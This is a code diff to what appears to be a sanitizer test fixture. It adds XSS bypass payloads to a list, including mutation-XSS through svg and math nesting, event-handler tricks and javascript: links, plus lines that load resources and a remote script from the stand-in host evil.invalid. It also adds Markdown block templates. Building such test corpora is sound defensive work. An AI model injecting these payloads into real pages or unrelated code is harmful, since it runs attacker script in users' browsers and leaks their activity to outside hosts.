@@ -38,6 +38,13 @@ ELEMENTS = [
     "<img src='a>b' onerror=alert(N)>", "<img alt='`' src=data:x onerror=alert(N)//`>", "<a title='\"><img src=data:x onerror=alert(N)>'>x</a>",
     "<img src=data:x onerror\u0301=alert(N)>", "<\u0301img src=data:x onerror=alert(N)>", "<img\u00a0src=data:x onerror=alert(N)>", "＜script＞alert(N)＜/script＞",
     "<ſcript>alert(N)</ſcript>", "<ıframe srcdoc=x>", "<img src=data:x onerror=&#97;lert(N)>", "<img src=data:x onerror=alert`N`>",
+    "<svg><style><img src=data:x onerror=alert(N)></style></svg>", "<svg></p><style><a id='</style><img src=data:x onerror=alert(N)>'>",
+    "<math><annotation-xml encoding=text/html><img src=data:x onerror=alert(N)></annotation-xml></math>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src=data:x onerror=alert(N)>", "<dialog open onfocus=alert(N) tabindex=0 autofocus>x</dialog>",
+    "<div popover id=p-N onbeforetoggle=alert(N)>x</div>", "<p style=content-visibility:auto oncontentvisibilityautostatechange=alert(N)>x</p>",
+    "<link rel=preload as=image href=http://evil.invalid/N.png>", "<link rel=prefetch href=http://evil.invalid/N>", "<picture><source srcset=http://evil.invalid/N.png><img></picture>",
+    "<video><track default src=http://evil.invalid/N.vtt></video>", "<map><area href=javascript:alert(N)></map>", "<frameset onload=alert(N)>",
+    "<img src=data:x loading=lazy onerror=alert(N) decoding=async>", "<a href=x ping=http://evil.invalid/N>x</a>", "<script>import('http://evil.invalid/N.js')</script>",
 ]
 # Out of an attribute, out of a template, out of a script.
 PIECES = [
@@ -71,6 +78,8 @@ BLOCKS = {
     "link's title": "[文字](index.md \"P\")", "link's title '": "[文字](index.md 'P')", "picture's text": "![P](images/a.png)",
     "picture's title": "![文字](images/a.png 'P')", "destination": "[文字](<P>)", "picture": "![文字](<P>)", "definition": "[文字][d-X]\n\n[d-X]: <P> 'P'",
     "footnote": "文字[^X]\n\n[^X]: P", "automatic": "<P>", "struck": "~~P~~", "heading's block": "## 标题 {#x-X P}", "self-check": "[P](../../quizzes/q.md)",
+    "trainer's note": "> [!trainer] P\n> P", "worksheet": "## P {#w-X .sheet}\n\nP", "role card": "## P {#c-X .card}\n\nP",
+    "steps": "## 步 {#n-X .steps minutes=1}\n\n- P",
 }
 
 
